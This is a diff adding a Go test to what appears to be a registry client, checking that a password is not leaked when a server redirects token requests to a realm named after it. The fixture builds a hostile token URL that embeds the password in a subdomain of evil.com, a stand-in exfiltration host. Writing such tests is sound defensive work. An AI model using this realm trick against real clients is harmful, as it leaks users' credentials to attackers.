@@ -391,3 +391,25 @@ func TestP18LoginsStayHiddenAfterwards(t *testing.T) {
 		t.Errorf("the registry says nothing, so that this proves nothing: %v", err)
 	}
 }
+
+// A token server named after the password: the refusal names hosts, and went into logs as it was.
+func TestP18RealmsNamedAfterTheLogin(t *testing.T) {
+	const secret = "hunter2-marker-in-lower-case"
+	f := newFixture(t)
+	f.HTTPS(host, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if _, password, sent := r.BasicAuth(); sent {
+			challenging(bearerAt("https://"+password+".evil.com/token")).ServeHTTP(w, r)
+			return
+		}
+		basic(nil).ServeHTTP(w, r)
+	}))
+	_, err := f.client(egress.Rules{}, login(secret)).Manifest(t.Context(), repo, "v1")
+	var e *client.Error
+	if !errors.As(err, &e) || !client.Withheld(err) || !strings.Contains(err.Error(), "[hidden].evil.com is not a token server") {
+		t.Fatalf("%v", err)
+	}
+	var cause *egress.Error
+	if errors.As(err, &cause); strings.Contains(fmt.Sprintf("%v %+v %+v %+v", err, *e, *cause, e.Evidence), secret) {
+		t.Errorf("the login is in %v, %+v", err, *cause)
+	}
+}
